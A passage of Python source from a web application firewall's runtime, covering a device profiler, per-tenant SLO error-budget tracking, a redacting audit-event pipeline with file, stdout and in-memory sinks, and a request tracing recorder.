        attributed to the ``host`` pseudo-program, never dropped."""
        self.record_program(HOST_MODE, 0, HOST_MODE, 0, seconds,
                            lanes=lanes, lanes_padded=lanes,
                            tenants={tenant: lanes} if tenant else None)

    # -- prediction --------------------------------------------------------
    def predict_batch_seconds(self, bucket: int) -> float:
        """Predicted dispatch+device seconds for ONE batch at the given
        length bucket: the sum over distinct (group, mode, stride)
        programs of their observed mean, each taken at its closest
        observed bucket (a batch runs every group's program once).
        0.0 = nothing observed yet — the micro-batcher's deadline-or-fill
        close-out then applies its WAF_BATCH_SLACK_DEFAULT_MS floor."""
        by_prog: dict[tuple, tuple[int, float]] = {}
        for (group, b, mode, stride), agg in list(self._aggs.items()):
            if mode == HOST_MODE or not agg.count:
                continue
            prog = (group, mode, stride)
            dist = abs(b - bucket)
            cur = by_prog.get(prog)
            if cur is None or dist < cur[0]:
                by_prog[prog] = (dist,
                                 agg.seconds_total / agg.count)
        return sum(mean for _, mean in by_prog.values())

    # -- export ------------------------------------------------------------
    def export_programs(self) -> list[dict]:
        """Per-key aggregates with histogram counts, for the metrics
        exposition (waf_program_seconds + occupancy gauges)."""
        out = []
        for key, agg in sorted(self._aggs.items()):
            d = agg.as_dict()
            d.update(group=key[0], bucket=key[1], mode=key[2],
                     stride=key[3], hist=list(agg.hist))
            out.append(d)
        return out

    def export_buckets(self) -> list[dict]:
        """Per-shape-bucket fill aggregates, for the
        waf_bucket_occupancy{bucket} gauges and the autotune observer."""
        out = []
        for bucket, fill in sorted(self._bucket_fills.items()):
            d = fill.as_dict()
            d["bucket"] = bucket
            out.append(d)
        return out

    def snapshot(self, join: bool = True, top: int | None = None) -> dict:
        """The /debug/profile payload: per-program aggregates sorted by
        total seconds (most expensive first), optionally joined with
        the waf-audit static cost model."""
        if not self.enabled and not self._aggs:
            return {"enabled": False, "sample": self.sample,
                    "programs": [], "tenants": {}}
        programs = []
        for key, agg in self._aggs.items():
            d = agg.as_dict()
            d.update(group=key[0], bucket=key[1], mode=key[2],
                     stride=key[3])
            if join:
                d["predicted"] = self._predict(key, agg)
            programs.append(d)
        programs.sort(key=lambda d: -d["seconds_total"])
        if top is not None and top > 0:
            programs = programs[:top]
        tenants: dict[str, dict] = {}
        for tkey, secs in self._tenant_seconds.items():
            tenant = tkey[0]
            label = f"{tkey[1]}/L{tkey[2]}/{tkey[3]}/s{tkey[4]}"
            tenants.setdefault(tenant, {})[label] = round(secs, 6)
        return {
            "enabled": self.enabled,
            "sample": self.sample,
            "sampled_batches": self.sampled_batches,
            "timed_collects": self.timed_collects,
            "programs": programs,
            "tenants": tenants,
            "buckets": self.export_buckets(),
            "recent": [r for r in self._ring if r is not None][-16:],
        }

    @staticmethod
    def _predict(key: tuple, agg: _Agg) -> dict | None:
        """Join one key with the static cost model; None when the key
        has no analytic model (the host pseudo-program)."""
        group, bucket, mode, stride = key
        if mode == HOST_MODE or bucket <= 0:
            return None
        try:
            from ..analysis.audit.cost import predict_program
        except Exception:
            return None
        dims = agg.dims or (0, 0, 0)
        try:
            pred = predict_program(mode, stride, bucket,
                                   m=dims[0], s=dims[1], c=dims[2])
        except Exception:
            return None
        mean = agg.seconds_total / agg.count if agg.count else 0.0
        steps = pred.get("scan_steps") or 0
        mms = pred.get("matmuls") or 0
        pred = dict(pred)
        if steps:
            pred["seconds_per_step"] = round(mean / steps, 9)
        if mms:
            pred["seconds_per_matmul"] = round(mean / mms, 9)
        return pred

    def stats(self) -> dict:
        return {
            "enabled": self.enabled,
            "sample": self.sample,
            "sampled_batches": self.sampled_batches,
            "timed_collects": self.timed_collects,
            "program_keys": len(self._aggs),
            "bucket_keys": len(self._bucket_fills),
            "ring_size": self.ring_size,
        }


# --------------------------------------------------------------------------
# per-tenant SLO tracking


_SLO_SUBBUCKETS = 12  # window granularity: expiry within window/12


class _Window:
    """One (tenant, objective) rolling window: fixed ring of
    time-sub-bucketed (total, bad) pairs, stale slots lazily zeroed."""

    __slots__ = ("idx", "slots")

    def __init__(self) -> None:
        self.idx = [0] * _SLO_SUBBUCKETS  # absolute bucket index per slot
        self.slots = [[0, 0] for _ in range(_SLO_SUBBUCKETS)]

    def add(self, bucket: int, bad: bool) -> None:
        i = bucket % _SLO_SUBBUCKETS
        if self.idx[i] != bucket:
            self.idx[i] = bucket
            self.slots[i][0] = 0
            self.slots[i][1] = 0
        self.slots[i][0] += 1
        if bad:
            self.slots[i][1] += 1

    def totals(self, bucket: int) -> tuple[int, int]:
        total = bad = 0
        lo = bucket - _SLO_SUBBUCKETS + 1
        for i in range(_SLO_SUBBUCKETS):
            if lo <= self.idx[i] <= bucket:
                total += self.slots[i][0]
                bad += self.slots[i][1]
        return total, bad


class SloTracker:
    """Rolling per-tenant error budgets for latency + availability.

    ``record()`` is called once per completed request on the batcher's
    worker thread; reads (:meth:`snapshot`) are best-effort concurrent.
    All timing is ``time.monotonic()`` (TIME001: never the wall clock).
    """

    def __init__(self, p99_ms: float | None = None,
                 availability: float | None = None,
                 window_s: float | None = None) -> None:
        from ..config import env as envcfg

        if p99_ms is None:
            p99_ms = envcfg.get_float("WAF_SLO_P99_MS")
        if availability is None:
            availability = envcfg.get_float("WAF_SLO_AVAILABILITY")
        if window_s is None:
            window_s = envcfg.get_float("WAF_SLO_WINDOW_S")
        self.p99_ms = max(0.0, float(p99_ms))
        self.availability = max(0.0, min(1.0, float(availability)))
        self.window_s = max(1.0, float(window_s))
        self._sub_s = self.window_s / _SLO_SUBBUCKETS
        # (tenant, slo-name) -> _Window;  slo in {"latency", "availability"}
        self._windows: dict[tuple, _Window] = {}
        self.recorded_total = 0

    # -- policy ------------------------------------------------------------
    @property
    def enabled(self) -> bool:
        return self.p99_ms > 0.0 or self.availability > 0.0

    @classmethod
    def from_env(cls) -> "SloTracker":
        return cls()

    def _bucket(self) -> int:
        return int(time.monotonic() / self._sub_s)

    def _win(self, tenant: str, slo: str) -> _Window:
        key = (tenant, slo)
        w = self._windows.get(key)
        if w is None:
            w = self._windows.setdefault(key, _Window())
        return w

    # -- recording ---------------------------------------------------------
    def record(self, tenant: str, latency_s: float | None,
               available: bool = True) -> None:
        """One completed request: latency_s = queue wait + inspection
        (None for requests that never produced a latency, e.g. shed —
        they count only against availability)."""
        if not self.enabled:
            return
        b = self._bucket()
        self.recorded_total += 1
        if self.p99_ms > 0.0 and latency_s is not None:
            self._win(tenant, "latency").add(
                b, latency_s * 1000.0 > self.p99_ms)
        if self.availability > 0.0:
            self._win(tenant, "availability").add(b, not available)

    def record_shed(self, tenant: str) -> None:
        self.record(tenant, None, available=False)

    # -- export ------------------------------------------------------------
    @staticmethod
    def _budget(total: int, bad: int, allowed_frac: float) -> dict:
        allowed = allowed_frac * total
        remaining = 1.0 if total == 0 else (
            max(0.0, min(1.0, 1.0 - bad / allowed)) if allowed > 0
            else (0.0 if bad else 1.0))
        burn = 0.0 if total == 0 or allowed_frac <= 0 else (
            (bad / total) / allowed_frac)
        return {
            "total": total,
            "bad": bad,
            "allowed_fraction": allowed_frac,
            "budget_remaining": round(remaining, 6),
            "burn_rate": round(burn, 4),
        }

    def snapshot(self) -> dict:
        """{tenant: {slo: budget dict}} over the current window."""
        if not self.enabled:
            return {"enabled": False, "tenants": {}}
        b = self._bucket()
        tenants: dict[str, dict] = {}
        for (tenant, slo), win in sorted(self._windows.items()):
            total, bad = win.totals(b)
            if slo == "latency":
                d = self._budget(total, bad, 0.01)  # p99: 1% may exceed
                d["objective_ms"] = self.p99_ms
            else:
                d = self._budget(total, bad, 1.0 - self.availability)
                d["objective"] = self.availability
            tenants.setdefault(tenant, {})[slo] = d
        return {
            "enabled": True,
            "window_s": self.window_s,
            "p99_ms": self.p99_ms,
            "availability": self.availability,
            "tenants": tenants,
        }

    def attainment(self) -> dict:
        """Per-objective worst-tenant budget_remaining — the compact
        number bench.py persists into BENCH JSON."""
        snap = self.snapshot()
        out: dict = {"enabled": snap.get("enabled", False)}
        worst: dict[str, float] = {}
        for slos in snap.get("tenants", {}).values():
            for slo, d in slos.items():
                cur = worst.get(slo)
                if cur is None or d["budget_remaining"] < cur:
                    worst[slo] = d["budget_remaining"]
        out["worst_budget_remaining"] = worst
        return out
