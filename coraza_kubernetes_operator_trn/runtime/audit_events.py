"""Security audit-event pipeline: Coraza-style per-request records for
the batched device path.

The SecLang reference engine already honors ``SecAuditEngine`` /
``SecAuditLog`` and assembles per-transaction audit entries
(engine/reference.py); this module carries those records through the
production serving path.  ``AuditEventPipeline`` assembles exactly one
structured event per finalized request — buffered and chunked-stream
alike, hooked at ``MicroBatcher._finalize`` so chunked ≡ buffered by
construction — joining:

- the verdict (action, status, matched rule ids, with msg/severity/
  logdata/tags pulled from the engine audit entries or, failing that,
  from compiled rule metadata via :func:`rule_meta_index`);
- the tenant's SecLang audit config (``SecAuditEngine On/RelevantOnly/
  Off`` decides the ``relevant`` flag and whether rule detail is
  attached; ``SecAuditLogFormat``/``SecAuditLog`` are echoed);
- phase latencies (admission_wait, device, total, time_to_block for
  early-blocked streams) and the flight-recorder trace id when present;
- degraded/fallback/shed terminals (``pass``, ``block``,
  ``early_block``, ``shed``, ``expired``, ``error``).

Hot-path contract (same discipline as runtime/tracing.py): ``emit`` is
lock-free — a GIL-atomic ``deque.append`` behind a bounded cap, with
overload *drop counters* instead of backpressure — and when the
pipeline is disabled it is a single attribute check with zero
allocations.  A dedicated daemon writer thread drains the queue into
pluggable sinks (rotating JSONL file, stdout for relevant events, an
in-memory ring behind ``GET /debug/events``); a wedged sink stalls only
the writer, never ``_finalize``.

Sampling: blocked / degraded / shed / error events are always kept;
passes are head-sampled via ``WAF_EVENT_SAMPLE`` (rate 0..1).

Redaction: this module is the ONLY place allowed to serialize
request-adjacent data (lint rule RED001 enforces that).  Body bytes are
never serialized — events carry only lengths (``body_len``,
``matched_len``) and rule metadata; ``logdata`` (which SecLang macro
expansion may taint with matched content) is capped hard.
"""

from __future__ import annotations

import json
import logging
import os
import sys
import threading
import time
from collections import deque
from dataclasses import dataclass
from itertools import count
from typing import Any, Callable

from ..config import env

log = logging.getLogger(__name__)

# The Coraza-style audit logger: relevant events go to stdout through it
# (moved here from extproc/batcher.py, which used to serialize raw audit
# entries inline on the dispatch thread).
audit_log = logging.getLogger("waf-audit")
audit_log.propagate = False
if not audit_log.handlers:
    audit_log.addHandler(logging.StreamHandler(sys.stdout))
audit_log.setLevel(logging.INFO)

# Terminals that bypass sampling: anything security- or health-relevant.
ALWAYS_KEEP = frozenset({"block", "early_block", "shed", "expired", "error"})

# SecLang logdata may expand %{MATCHED_VAR}; cap it so a large matched
# body region can never ride into the event stream wholesale.
_LOGDATA_CAP = 200


# --- redaction helpers ------------------------------------------------------
#
# The single sanctioned serialization point for request-adjacent data
# (RED001 exempts exactly this module).


def redact_audit_entry(entry: dict) -> dict:
    """One engine audit entry -> redacted event rule detail.

    ``matched_var`` (the raw matched slice, typically body bytes) is
    replaced by its length; ``logdata`` is capped; everything else is
    rule *metadata* (msg/severity/tags), safe to serialize.
    """
    matched = entry.get("matched_var") or ""
    logdata = str(entry.get("logdata") or "")[:_LOGDATA_CAP]
    out = {
        "id": entry.get("id"),
        "phase": entry.get("phase"),
        "msg": entry.get("msg") or "",
        "severity": entry.get("severity") or "",
        "tags": list(entry.get("tags") or ()),
        "matched_var_name": entry.get("matched_var_name") or "",
        "matched_len": len(matched),
    }
    if logdata:
        out["logdata"] = logdata
    return out


def rule_meta_index(waf: Any) -> dict[int, dict]:
    """id -> static metadata (msg/severity/logdata template/tags) for a
    compiled ruleset; cached on the waf object (a reload builds a new
    ReferenceWaf, so the cache naturally follows ruleset versions)."""
    cached = getattr(waf, "_audit_meta_index", None)
    if cached is not None:
        return cached
    index: dict[int, dict] = {}
    try:
        for rule in waf.rules:
            msg = rule.action("msg")
            sev = rule.action("severity")
            logdata = rule.action("logdata")
            index[rule.id] = {
                "id": rule.id,
                "phase": rule.phase,
                "msg": (msg.argument or "") if msg else "",
                "severity": (sev.argument or "") if sev else "",
                "logdata": ((logdata.argument or "") if logdata
                            else "")[:_LOGDATA_CAP],
                "tags": [a.argument or ""
                         for a in rule.actions_named("tag")],
            }
    except Exception:  # duck-typed engines without SecLang rule ASTs
        index = {}
    try:
        waf._audit_meta_index = index
    except Exception:
        pass
    return index


def build_event(
    *,
    tenant: str,
    request: Any,
    verdict: Any,
    waf: Any = None,
    terminal: str,
    at: str = "",
    degraded: bool = False,
    stream_chunks: int | None = None,
    body_len: int | None = None,
    time_to_block_s: float | None = None,
    admission_wait_s: float = 0.0,
    device_s: float = 0.0,
    total_s: float = 0.0,
    trace_id: str = "",
) -> dict:
    """Assemble one redacted AuditEvent dict (JSON-serializable)."""
    config = getattr(waf, "config", None)
    mode = str(getattr(config, "audit_engine", "RelevantOnly")).lower()
    blocked = not getattr(verdict, "allowed", True)
    relevant = mode == "on" or (mode == "relevantonly"
                                and (blocked or degraded))
    body = getattr(request, "body", b"") or b""
    matched_ids = list(getattr(verdict, "matched_rule_ids", ()) or ())
    event: dict = {
        # wall-clock timestamp for the audit record; every duration
        # below comes from the caller's monotonic clock
        "ts": time.time(),  # lint-allow: TIME001 -- audit wall timestamp
        "tenant": tenant,
        "terminal": terminal,
        "action": getattr(verdict, "action", ""),
        "status": getattr(verdict, "status", 0),
        "rule_id": getattr(verdict, "rule_id", 0),
        "matched_rule_ids": matched_ids,
        "relevant": relevant,
        "audit_engine": getattr(config, "audit_engine", "RelevantOnly"),
        "degraded": bool(degraded),
        "request": {
            "method": getattr(request, "method", ""),
            "uri": getattr(request, "uri", ""),
            "body_len": len(body) if body_len is None else body_len,
        },
        "latency": {
            "admission_wait_ms": round(admission_wait_s * 1e3, 3),
            "device_ms": round(device_s * 1e3, 3),
            "total_ms": round(total_s * 1e3, 3),
        },
    }
    if at:
        event["at"] = at
    if trace_id:
        event["trace_id"] = trace_id
    if stream_chunks is not None:
        stream: dict = {"chunks": stream_chunks}
        if time_to_block_s is not None:
            stream["time_to_block_ms"] = round(time_to_block_s * 1e3, 3)
        event["stream"] = stream
    if relevant:
        audit = getattr(verdict, "audit", ()) or ()
        if audit:
            event["rules"] = [redact_audit_entry(e) for e in audit]
        elif matched_ids and waf is not None:
            index = rule_meta_index(waf)
            detail = [index[i] for i in matched_ids if i in index]
            if detail:
                event["rules"] = detail
    return event


# --- sinks ------------------------------------------------------------------


class MemoryRingSink:
    """Bounded in-memory ring of the most recent events, for
    ``GET /debug/events``.  Written only by the pipeline's writer
    thread; snapshot/drain take a snapshot-local copy like the flight
    recorder's ring."""

    name = "memory"

    def __init__(self, capacity: int = 256) -> None:
        self.capacity = max(1, int(capacity))
        self._ring: deque[dict] = deque(maxlen=self.capacity)
        self.evicted_total = 0

    def write(self, event: dict) -> None:
        if len(self._ring) == self._ring.maxlen:
            self.evicted_total += 1
        self._ring.append(event)

    def snapshot(self) -> list[dict]:
        # the writer thread may append mid-copy; deque iteration raises
        # RuntimeError on concurrent mutation, so retry a few times
        for _ in range(8):
            try:
                return list(self._ring)
            except RuntimeError:
                continue
        return []

    def drain(self) -> list[dict]:
        out = self.snapshot()
        self._ring.clear()
        return out

    def close(self) -> None:
        pass


class StdoutSink:
    """Coraza's ``SecAuditLog /dev/stdout`` behavior: *relevant* events
    are logged as one JSON line through the ``waf-audit`` logger (the
    same logger the batcher used to write inline)."""

    name = "stdout"

    def __init__(self, logger: logging.Logger = audit_log) -> None:
        self._log = logger

    def write(self, event: dict) -> None:
        if event.get("relevant"):
            self._log.info("%s", json.dumps(event, sort_keys=True))

    def close(self) -> None:
        pass


class RotatingJsonlSink:
    """Append-only JSONL file with size-based rotation
    (``path -> path.1 -> ... -> path.N``), written only by the
    pipeline's writer thread so no file lock is needed."""

    name = "file"

    def __init__(self, path: str, max_bytes: int = 1 << 22,
                 backups: int = 3) -> None:
        self.path = path
        self.max_bytes = max(0, int(max_bytes))
        self.backups = max(0, int(backups))
        self._fh = open(path, "ab")
        self._size = self._fh.tell()

    def write(self, event: dict) -> None:
        line = (json.dumps(event, sort_keys=True) + "\n").encode()
        if (self.max_bytes and self._size > 0
                and self._size + len(line) > self.max_bytes):
            self._rotate()
        self._fh.write(line)
        self._fh.flush()
        self._size += len(line)

    def _rotate(self) -> None:
        self._fh.close()
        if self.backups <= 0:
            os.replace(self.path, self.path + ".1")
        else:
            for i in range(self.backups - 1, 0, -1):
                src = f"{self.path}.{i}"
                if os.path.exists(src):
                    os.replace(src, f"{self.path}.{i + 1}")
            os.replace(self.path, self.path + ".1")
        self._fh = open(self.path, "ab")
        self._size = 0

    def close(self) -> None:
        try:
            self._fh.close()
        except Exception:
            pass


# --- the pipeline -----------------------------------------------------------


@dataclass
class _SinkCounters:
    written: int = 0
    dropped: int = 0


class AuditEventPipeline:
    """Lock-free bounded queue drained by a dedicated writer thread.

    ``emit`` (hot path) does: one enabled check, a sampling decision, a
    cap check, ``deque.append`` — all GIL-atomic, no locks, no waiting.
    Overload (writer behind, queue at cap) increments a drop counter
    and returns; the dispatch path never blocks on telemetry.
    """

    def __init__(
        self,
        *,
        enabled: bool | None = None,
        queue_cap: int | None = None,
        ring_capacity: int | None = None,
        sample: float | None = None,
        log_path: str | None = None,
        log_max_bytes: int | None = None,
        log_backups: int | None = None,
        stdout: bool | None = None,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self.enabled = (env.get_bool("WAF_EVENT_PIPELINE")
                        if enabled is None else enabled)
        self.queue_cap = max(1, env.get_int("WAF_EVENT_QUEUE")
                             if queue_cap is None else queue_cap)
        self.sample = max(0.0, min(1.0, env.get_float("WAF_EVENT_SAMPLE")
                                   if sample is None else sample))
        ring_cap = (env.get_int("WAF_EVENT_RING")
                    if ring_capacity is None else ring_capacity)
        path = env.get_str("WAF_EVENT_LOG") if log_path is None else log_path
        max_bytes = (env.get_int("WAF_EVENT_LOG_MAX_BYTES")
                     if log_max_bytes is None else log_max_bytes)
        backups = (env.get_int("WAF_EVENT_LOG_BACKUPS")
                   if log_backups is None else log_backups)
        want_stdout = (env.get_bool("WAF_EVENT_STDOUT")
                       if stdout is None else stdout)
        self._clock = clock

        # pass head-sampling period, tracing-style: rate r keeps every
        # round(1/r)-th pass; 0 keeps none, 1 keeps all.
        self._period = int(round(1.0 / self.sample)) if self.sample > 0 else 0
        self._pass_seq = count()

        self._queue: deque[dict] = deque()
        self._wake = threading.Event()
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

        # best-effort counters (single-writer or GIL-atomic += races we
        # accept, same as the flight recorder)
        self.emitted_total = 0
        self.sampled_out_total = 0
        self.handled_total = 0
        self.dropped_queue_total = 0
        self.emitted_by_tenant: dict[str, int] = {}

        self.memory = MemoryRingSink(ring_cap)
        self.sinks: list[Any] = []
        self._counters: dict[str, _SinkCounters] = {}
        if self.enabled:
            self._attach(self.memory)
            if want_stdout:
                self._attach(StdoutSink())
            if path:
                try:
                    self._attach(RotatingJsonlSink(
                        path, max_bytes=max_bytes, backups=backups))
                except OSError:
                    log.exception("audit-event file sink unavailable: %s",
                                  path)

    def _attach(self, sink: Any) -> None:
        self.sinks.append(sink)
        self._counters[sink.name] = _SinkCounters()

    # -- lifecycle --

    def start(self) -> None:
        if not self.enabled or self._thread is not None:
            return
        self._stop.clear()
        self._thread = threading.Thread(
            target=self._writer, name="audit-events", daemon=True)
        self._thread.start()

    def stop(self, timeout: float = 2.0) -> None:
        if self._thread is None:
            return
        self._stop.set()
        self._wake.set()
        # a wedged sink must not wedge shutdown: bounded join, the
        # daemon thread is abandoned past the deadline
        self._thread.join(timeout)
        self._thread = None
        for sink in self.sinks:
            try:
                sink.close()
            except Exception:
                pass

    # -- hot path --

    def emit(self, event: dict) -> None:
        """One enabled check when off; lock-free append when on."""
        if not self.enabled:
            return
        self.emitted_total += 1
        tenant = event.get("tenant", "")
        self.emitted_by_tenant[tenant] = \
            self.emitted_by_tenant.get(tenant, 0) + 1
        if event.get("terminal") not in ALWAYS_KEEP \
                and not event.get("degraded"):
            if self._period == 0 or next(self._pass_seq) % self._period:
                self.sampled_out_total += 1
                return
        if len(self._queue) >= self.queue_cap:
            self.dropped_queue_total += 1
            return
        self._queue.append(event)
        self._wake.set()

    # -- writer thread --

    def _writer(self) -> None:
        while True:
            if not self._queue:
                if self._stop.is_set():
                    return
                self._wake.wait(0.05)
                self._wake.clear()
                continue
            try:
                event = self._queue.popleft()
            except IndexError:
                continue
            for sink in self.sinks:
                c = self._counters[sink.name]
                try:
                    sink.write(event)
                    c.written += 1
                except Exception:
                    c.dropped += 1
            self.handled_total += 1

    # -- introspection --

    def flush(self, timeout: float = 5.0) -> bool:
        """Wait until every emitted event is accounted for (written,
        sampled out, or dropped).  Test/bench helper, not hot path."""
        deadline = self._clock() + timeout
        while (self.handled_total + self.sampled_out_total
               + self.dropped_queue_total) < self.emitted_total:
            if self._clock() >= deadline or self._thread is None:
                break
            self._wake.set()
            time.sleep(0.002)
        return not self._queue

    def queue_depth(self) -> int:
        return len(self._queue)

    def snapshot(self) -> list[dict]:
        return self.memory.snapshot()

    def drain(self) -> list[dict]:
        return self.memory.drain()

    def stats(self) -> dict:
        dropped = {"queue": self.dropped_queue_total}
        written = {}
        for name, c in self._counters.items():
            dropped[name] = c.dropped
            written[name] = c.written
        return {
            "enabled": self.enabled,
            "queue_depth": len(self._queue),
            "queue_cap": self.queue_cap,
            "sample": self.sample,
            "emitted_total": self.emitted_total,
            "sampled_out_total": self.sampled_out_total,
            "handled_total": self.handled_total,
            "dropped_total": dropped,
            "written_total": written,
            "emitted_by_tenant": dict(self.emitted_by_tenant),
            "ring_evicted_total": self.memory.evicted_total,
        }
