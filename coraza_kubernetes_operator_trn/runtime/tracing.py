"""Request flight recorder: per-phase spans over the batched device path.

Every inspection decomposes into typed spans with monotonic-clock
timestamps — ``admission_wait`` (enqueue -> batch drained), ``batch_fill``
(drained -> dispatch), ``device_issue`` / ``device_collect`` (kernel
launch / the one sync fetch, per wave), ``host_phase1`` (the phase-1 rule
walk overlapped by speculative scans), ``host_fallback`` (breaker/host
path), ``chip_dispatch`` (per-chip fan-out in the sharded engine) and a
terminal ``verdict`` or ``shed`` span. Streaming inspection adds
``stream_chunk`` (one body chunk appended + carried-state device scan;
attrs: seq, n_bytes, hits) and ``early_block`` (a chunk trigger's exact
prefix inspection returned a blocking verdict before the final chunk;
attrs: rule_id, chunks). Hot-reload trace/compile events
record standalone ``epoch``/``recompile`` event traces.

The recorder is deliberately lock-free on the hot path (LOCK001: the data
plane must never hold a lock across a device sync, and a per-request
tracing lock would serialize the double-buffered pipeline):

- the ring buffer index is an ``itertools.count`` (its ``__next__`` is a
  single C call, atomic under the GIL) and each slot store is one
  bytecode — concurrent finishers write disjoint slots;
- per-context span lists are only ever touched by the thread currently
  advancing that request (submit -> dispatcher -> worker -> chip thread
  hand-offs all happen-before via the batcher's condition variables and
  futures), so appends need no synchronization;
- telemetry counters are best-effort under concurrency and exact once
  writers quiesce (tests drain the batcher before reading them).

Sampling: head sampling admits every ``1/WAF_TRACE_SAMPLE``-th request at
submit time; tail capture (enabled by ``WAF_TRACE_SLOW_MS`` > 0) records
spans for every request but keeps only the interesting completions —
slow, blocked, shed, or host-fallback. With both knobs at 0 the recorder
is fully off: ``start()`` returns None and the data plane pays a single
``is None`` check per request.

The per-program device profiler (runtime/profiler.py,
``WAF_PROFILE_SAMPLE``) reuses this exact head-sampling discipline —
deterministic ``1/rate``-period admission off a GIL-atomic
``itertools.count`` — but samples per BATCH (the profiling unit is a
collect, which serves a whole batch) where this recorder samples per
request. Keep the two in lockstep when evolving either.
"""

from __future__ import annotations

import itertools
import time
import uuid

# span names considered "interesting" for tail capture even when the
# request was fast: the degraded paths an operator debugs first
_TAIL_SPAN_NAMES = frozenset({"host_fallback", "shed"})

_DEFAULT_RING = 256


class TraceContext:
    """One request's in-flight trace: id + sampling decision + spans.

    Rides ``_Pending`` through the batcher and is handed to the engines
    via ``inspect_batch(..., trace_ctxs=...)``. Span timestamps are
    ``time.monotonic()`` floats; spans are stored as
    ``(name, t0, t1, attrs|None)`` tuples until serialization.
    """

    __slots__ = ("trace_id", "tenant", "sampled", "t_start", "spans",
                 "attrs")

    def __init__(self, trace_id: str, tenant: str, sampled: bool,
                 t_start: float) -> None:
        self.trace_id = trace_id
        self.tenant = tenant
        self.sampled = sampled
        self.t_start = t_start
        self.spans: list[tuple] = []
        self.attrs: dict = {}

    def span(self, name: str, t0: float, t1: float, **attrs) -> None:
        """Record one closed span (monotonic timestamps)."""
        self.spans.append((name, t0, t1, attrs or None))

    def annotate(self, **attrs) -> None:
        self.attrs.update(attrs)


def _trace_dict(ctx: TraceContext, t_end: float, terminal: str,
                seq: int) -> dict:
    return {
        "trace_id": ctx.trace_id,
        "tenant": ctx.tenant,
        "terminal": terminal,
        "sampled": ctx.sampled,
        "seq": seq,
        "start_s": ctx.t_start,
        "end_s": t_end,
        "duration_ms": round((t_end - ctx.t_start) * 1000.0, 4),
        "attrs": dict(ctx.attrs),
        "spans": [
            {
                "name": name,
                "start_s": t0,
                "end_s": t1,
                "duration_ms": round((t1 - t0) * 1000.0, 4),
                "attrs": attrs or {},
            }
            for (name, t0, t1, attrs) in ctx.spans
        ],
    }


class TraceRecorder:
    """Bounded lock-free ring of completed traces + sampling policy."""

    def __init__(self, sample: float | None = None,
                 slow_ms: float | None = None,
                 ring: int | None = None) -> None:
        from ..config import env as envcfg

        if sample is None:
            sample = envcfg.get_float("WAF_TRACE_SAMPLE")
        if slow_ms is None:
            slow_ms = envcfg.get_float("WAF_TRACE_SLOW_MS")
        if ring is None:
            ring = envcfg.get_int("WAF_TRACE_RING")
        self.sample = max(0.0, min(1.0, float(sample)))
        self.slow_ms = max(0.0, float(slow_ms))
        self.ring_size = max(1, int(ring) if ring else _DEFAULT_RING)
        # head sampling: admit every period-th start (deterministic, so
        # tests and differential runs see a stable sampled subset)
        self._period = (0 if self.sample <= 0.0
                        else max(1, round(1.0 / self.sample)))
        self._ring: list = [None] * self.ring_size
        self._widx = itertools.count()
        self._starts = itertools.count()
        # contexts started but not yet finished: the orphan/unclosed-span
        # detector (set add/discard are single GIL-atomic calls)
        self._open: set = set()
        # best-effort counters (exact once writers quiesce)
        self.started_total = 0
        self.finished_total = 0
        self.kept_total = 0
        self.dropped_total = 0
        # optional per-phase histogram sink, e.g. Metrics.record_phases;
        # called on EVERY finished context (kept or not) so the phase
        # histograms are not biased by the keep decision
        self.phase_sink = None

    # -- policy ------------------------------------------------------------
    @property
    def enabled(self) -> bool:
        return self._period > 0 or self.slow_ms > 0.0

    @classmethod
    def from_env(cls) -> "TraceRecorder":
        return cls()

    # -- lifecycle ---------------------------------------------------------
    def start(self, tenant: str) -> TraceContext | None:
        """Open a trace context for one request; None when tracing is
        off or this request is neither head-sampled nor tail-eligible."""
        if not self.enabled:
            return None
        n = next(self._starts)
        self.started_total = n + 1
        sampled = self._period > 0 and (n % self._period) == 0
        if not sampled and self.slow_ms <= 0.0:
            return None
        ctx = TraceContext(uuid.uuid4().hex[:16], tenant, sampled,
                           time.monotonic())
        self._open.add(ctx)
        return ctx

    def finish(self, ctx: TraceContext | None, terminal: str = "verdict",
               **attrs) -> dict | None:
        """Close a context; returns the trace dict when it was kept.

        Keep = head-sampled, or (tail capture on and the request was
        slow, blocked, shed, or served by a fallback path)."""
        if ctx is None:
            return None
        self._open.discard(ctx)
        self.finished_total += 1
        if attrs:
            ctx.attrs.update(attrs)
        t_end = time.monotonic()
        sink = self.phase_sink
        if sink is not None:
            try:
                sink(ctx.spans)
            except Exception:
                pass  # telemetry must never fail a verdict
        keep = ctx.sampled
        if not keep and self.slow_ms > 0.0:
            dur_ms = (t_end - ctx.t_start) * 1000.0
            keep = (dur_ms >= self.slow_ms
                    or terminal == "shed"
                    or bool(ctx.attrs.get("blocked"))
                    or any(s[0] in _TAIL_SPAN_NAMES for s in ctx.spans))
        if not keep:
            return None
        return self._store(_trace_dict(ctx, t_end, terminal,
                                       seq=next(self._widx)))

    def record_event(self, terminal: str, tenant: str,
                     spans: list[tuple], **attrs) -> dict | None:
        """Record a standalone event trace (epoch/recompile family):
        spans = [(name, t0, t1, attrs|None), ...], always kept."""
        if not self.enabled or not spans:
            return None
        t0 = min(s[1] for s in spans)
        ctx = TraceContext(uuid.uuid4().hex[:16], tenant, True, t0)
        ctx.spans = list(spans)
        ctx.attrs = dict(attrs)
        return self._store(_trace_dict(ctx, max(s[2] for s in spans),
                                       terminal, seq=next(self._widx)))

    def _store(self, trace: dict) -> dict:
        i = trace["seq"] % self.ring_size
        evicted = self._ring[i]
        self._ring[i] = trace
        self.kept_total += 1
        if evicted is not None:
            self.dropped_total += 1
        return trace

    # -- export ------------------------------------------------------------
    def snapshot(self) -> list[dict]:
        """Completed traces currently in the ring, oldest first."""
        return sorted((t for t in list(self._ring) if t is not None),
                      key=lambda t: t["seq"])

    def drain(self) -> list[dict]:
        """Snapshot and clear the ring (programmatic test hook)."""
        ring, self._ring = self._ring, [None] * self.ring_size
        return sorted((t for t in ring if t is not None),
                      key=lambda t: t["seq"])

    def stats(self) -> dict:
        return {
            "started_total": self.started_total,
            "finished_total": self.finished_total,
            "kept_total": self.kept_total,
            "dropped_total": self.dropped_total,
            "open_traces": len(self._open),
            "ring_size": self.ring_size,
            "sample": self.sample,
            "slow_ms": self.slow_ms,
        }


def phase_quantiles(traces: list[dict]) -> dict:
    """{span name -> {"p50_ms", "p99_ms", "count"}} over trace dicts —
    the ``phase_breakdown`` object bench.py emits."""
    by_name: dict[str, list[float]] = {}
    for t in traces:
        for s in t.get("spans", ()):
            by_name.setdefault(s["name"], []).append(s["duration_ms"])
    out = {}
    for name, ds in sorted(by_name.items()):
        ds.sort()
        out[name] = {
